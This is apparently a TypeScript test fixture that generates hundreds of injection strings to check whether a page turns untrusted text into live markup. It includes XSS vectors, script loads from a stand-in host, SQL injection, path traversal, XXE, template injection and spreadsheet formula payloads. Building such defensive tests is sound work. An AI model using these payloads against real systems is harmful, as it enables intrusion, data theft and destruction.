// Texts that would do harm where a page took them for more than text (case E1). Each breaks out of where it
// might stand, leaves a mark that is an element only if it was read as markup, and then tries to act.

/// An element with this class on a page is text that became markup.
export const MARK = "hostil";
const mark = `<i class=${MARK}>`;

/// What may stand before a value: text, attributes, and elements whose content is read in another way.
const BREAKS = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "</option></select>", "]]>", "`>", "\n\n"];

/// What acts, if it is read as markup: by itself, by the mouse, by loading from elsewhere.
const ACTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><script href=//malo.example/x.js />",
  "<math><mtext><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<object data=//malo.example/x>",
  "<embed src=//malo.example/x>",
  "<img src=//malo.example/x.png>",
  "<script src=//malo.example/x.js></script>",
  "<link rel=stylesheet href=//malo.example/x.css>",
  "<style>@import '//malo.example/x.css'</style>",
  "<style>body{display:none}</style>",
  "<base href=//malo.example/>",
  "<meta http-equiv=refresh content='0;url=//malo.example'>",
  "<form action=//malo.example><button>x</button>",
  "<a href=javascript:alert(1)>x</a>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<body onload=alert(1)>",
  "<div style='background:url(//malo.example/x)'>",
  "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
];

/// What needs no markup: attributes, templates, links, escapes of other languages, formulas, directions.
const OTHERS = [
  `" onmouseover=alert(1) x="${mark}`,
  `' autofocus onfocus=alert(1) x='${mark}`,
  `x onload=alert(1) ${mark}`,
  `javascript:alert(1)//${mark}`,
  `data:text/html,<script>alert(1)</script>${mark}`,
  `//malo.example/${mark}`,
  `https://malo.example/"onmouseover="alert(1)${mark}`,
  `{{7*7}} {% include "/etc/passwd" %} \${alert(1)} <%= 7*7 %> ${mark}`,
  `{ $name } { -case } { "" } ${mark}`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; ${mark}`,
  `%3Cscript%3Ealert(1)%3C/script%3E ${mark}`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e ${mark}`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4- ${mark}`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>${mark}`,
  `<ſcript>alert(1)</ſcript>${mark}`,
  `＜script＞alert(1)＜/script＞${mark}`,
  `=HYPERLINK("https://malo.example","x")${mark}`,
  `@SUM(1)*cmd|' /C calc'!A0${mark}`,
  `\u202egnp.exe ${mark}`,
  `\u200b<script>alert(1)</script>${mark}`,
  `' OR '1'='1'; DROP TABLE ticket; --${mark}`,
  `../../../../etc/passwd${mark}`,
  `[x](javascript:alert(1)) ![x](//malo.example/x.png) ${mark}`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->${mark}`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${mark}`,
  `*{background:url(//malo.example)}</style>${mark}`,
  `;background-image:url(//malo.example/x);${mark}`,
  `\\"-alert(1)-\\"${mark}`,
];

/// All of them: over 300.
export const payloads = [...BREAKS.flatMap((out) => ACTS.map((act) => `${out}${mark}${act}`)), ...OTHERS];
